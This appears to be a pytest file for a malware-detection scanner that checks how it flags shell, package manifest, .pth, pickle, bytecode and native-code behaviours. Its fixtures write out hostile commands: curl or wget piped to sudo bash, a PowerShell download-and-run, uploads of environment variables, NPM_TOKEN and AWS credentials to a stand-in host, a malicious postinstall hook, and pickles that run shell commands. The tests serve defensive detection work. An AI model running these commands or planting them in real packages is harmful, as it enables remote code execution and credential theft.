"""Everything that is neither Python nor JavaScript: shell, manifests, pickles, byte code, native code, text."""

import base64
import pickle
import struct

import pytest
from reading import seen, short

from biopsy.model.behaviour import When
from biopsy.static import discover

FETCH = "curl -fsSL http://x.example/i.sh | sudo bash"


def test_readers_are_found_by_being_there() -> None:
    names = [reader.NAME for reader in discover()]
    assert {"python", "javascript", "shell", "text", "pth", "pickle", "native", "gyp"} <= set(names)
    assert len(names) == len(set(names))


@pytest.mark.parametrize(
    "command",
    [
        FETCH,
        "wget -qO- http://x.example/a | sh",
        "bash <(curl -s http://x.example/a)",
        'sh -c "$(curl -fsSL http://x.example/a)"',
        "curl -o /tmp/a http://x.example/a && chmod +x /tmp/a && /tmp/a",
        "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\"",
        "curl http://x.example/a.js | node",
    ],
)
def test_a_download_that_is_run_is_a_flow(command: str) -> None:
    assert "code.flow network > execution" in short(seen(f"#!/bin/sh\n{command}\n", "run.sh"))


@pytest.mark.parametrize(
    "command",
    [
        "curl -o data.json http://x.example/a",
        "curl http://x.example | grep x > y",
        "make && sh build.sh",
        "echo bash | cat",
    ],
)
def test_a_download_that_is_kept_is_none(command: str) -> None:
    assert not [b for b in seen(f"#!/bin/sh\n{command}\n", "run.sh") if b.startswith("code.flow")]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('curl -X POST -d "$(env)" http://x.example', "code.flow env:* > network"),
        ("curl http://x.example/?t=$NPM_TOKEN", "code.flow env:NPM_TOKEN > network"),
        ("curl -F f=@~/.aws/credentials http://x.example", "code.flow file:~/.aws/credentials > network"),
        ("curl -X PUT http://x.example/a", "net.http PUT http://x.example/a"),
        ("echo aWQ= | base64 -d | sh", "code.flow decoded > execution"),
        ("nslookup $(hostname).x.example; curl http://x.example/$(whoami)", "code.flow host > network"),
    ],
)
def test_each_part_of_a_command_is_told(command: str, expected: str) -> None:
    assert expected in short(seen(f"#!/bin/sh\n{command}\n", "run.sh"))


def test_lifecycle_scripts_run_at_install() -> None:
    manifest = '{"name": "x",\n "scripts": {"postinstall": "FETCH", "test": "curl x | sh",\n "preinstall": "node -e \\"require(\'fs\').unlinkSync(\'/tmp/x\')\\""}}'.replace("FETCH", FETCH)  # fmt: skip
    behaviours = seen(manifest, "package.json", When.UNKNOWN)
    assert f"process.exec {FETCH} @ package.json:2 (install)" in behaviours
    assert "code.flow network > execution @ package.json:2 (install)" in behaviours
    assert "file.delete /tmp/x @ package.json:3 (install)" in behaviours


@pytest.mark.parametrize(
    "manifest", ["", "{", "[]", '{"scripts": []}', '{"scripts": {"install": 1}}', "[" * 100_000]
)
def test_a_broken_manifest_is_no_crash(manifest: str) -> None:
    seen(manifest, "package.json")


def test_gyp_expansions_run_at_install() -> None:
    gyp = (
        "{'targets': [{'target_name': 'x', 'type': 'none',\n 'sources': ['<!(node sim.js && echo stub.c)']}]}"
    )
    assert "process.exec node sim.js && echo stub.c @ binding.gyp:2 (install)" in seen(gyp, "binding.gyp")


def test_a_pth_line_runs_at_every_start() -> None:
    line = f"import os, base64; exec(base64.b64decode({base64.b64encode(b'import os; os.system(chr(105) + chr(100))').decode()!r}))"
    behaviours = seen(f"../lib\n{line}\n", "x.pth", When.START)
    assert "process.exec id @ x.pth:2 (start)" in behaviours
    assert "code.flow decoded > execution @ x.pth:2 (start)" in behaviours


class Runs:
    def __init__(self, function, *args) -> None:
        self.how = (function, args)

    def __reduce__(self):
        return self.how


@pytest.mark.parametrize("protocol", range(5))
def test_a_pickle_that_runs_a_command_is_told(protocol: int) -> None:
    import os

    behaviours = short(seen(pickle.dumps(Runs(os.system, "echo marker"), protocol), "model.pkl"))
    assert "process.exec echo marker" in behaviours
    assert "code.eval pickle posix.system" in behaviours


def test_a_pickle_that_evaluates_is_told_and_its_code_read() -> None:
    data = pickle.dumps(Runs(exec, "import os; os.remove('/tmp/x')"))
    assert "file.delete /tmp/x" in short(seen(data, "model.pkl"))


def test_a_pickle_of_data_is_quiet() -> None:
    assert seen(pickle.dumps({"a": [1, "os", "system"], "b": {"exec"}}), "data.pkl") == []


def test_byte_code_without_source_is_native() -> None:
    data = struct.pack("<I", 0x0D0DA7) + bytes(12) + b"\xe3https://x.example/stage2\x00"
    found = short(seen(data, "pkg/sim.pyc"))
    assert {"code.native pyc pkg/sim.pyc", "net.url https://x.example/stage2"} <= found
    assert seen(data, "pkg/__pycache__/sim.cpython-311.pyc", also=("pkg/sim.py",)) == []


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"\x7fELF" + bytes(80) + b"UPX!", {"code.native ELF x.bin", "code.obfuscated upx"}),
        (b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0", {"code.native PE x.bin"}),
        (b"\xcf\xfa\xed\xfe" + bytes(20), {"code.native Mach-O x.bin"}),
        (b"MZ is not a program", set()),
    ],
)
def test_native_code_is_known_by_its_first_bytes(data: bytes, expected: set[str]) -> None:
    found = short(seen(data, "x.bin"))
    assert expected <= found
    assert expected or not found


def test_code_pushed_off_the_screen_is_hidden() -> None:
    assert "evasion.hidden off-screen @ a.js:2 (import)" in seen(
        f"let a;\nlet b = 1;{' ' * 300}fetch('x')\n", "a.js"
    )


def test_code_in_invisible_characters_is_hidden() -> None:
    unseen = "".join(chr(0xE0100 + c) for c in b"hello there")
    assert "evasion.hidden invisible @ a.js:1 (import)" in seen(f"const s = '{unseen}'\n", "a.js")


@pytest.mark.parametrize(
    "text",
    [
        "const e = '\u2764\ufe0f \U0001f468\u200d\U0001f469\u200d\U0001f467'\n",
        "x = [\n" + " " * 400 + "]\n",
        "a = 1" + " " * 300 + "# note\n",
    ],
)
def test_plausible_text_is_not_hidden(text: str) -> None:
    assert not [b for b in seen(text, "a.py") if b.startswith("evasion")]


def test_a_task_that_runs_when_a_folder_opens_is_a_hook() -> None:
    tasks = '{// comment\n"tasks": [{"label": "x", "command": "node", "args": ["x.js"], "runOptions": {"runOn": "folderOpen"}}]}'
    assert "pkg.hook .vscode/tasks.json node x.js" in short(seen(tasks, ".vscode/tasks.json"))
    assert "pkg.hook .vscode/tasks.json node x.js" not in short(
        seen(tasks.replace("folderOpen", "default"), ".vscode/tasks.json")
    )


def test_encoded_code_in_data_is_decoded_but_not_said_to_run() -> None:
    blob = base64.b64encode(b"import os\nos.system('echo marker')\n" * 2).decode()
    behaviours = seen(f'{{"data": "{blob}"}}', "data.json")
    assert "code.decode base64 @ data.json:1 (import)" in behaviours
    assert "process.exec echo marker @ data.json:1" in behaviours


@pytest.mark.parametrize("text", ["# see https://x.example\n", '"""Docs.\n\nhttps://x.example\n"""\n'])
def test_urls_in_comments_and_docstrings_are_not_code(text: str) -> None:
    assert seen(text + "x = 1\n", "a.py") == []
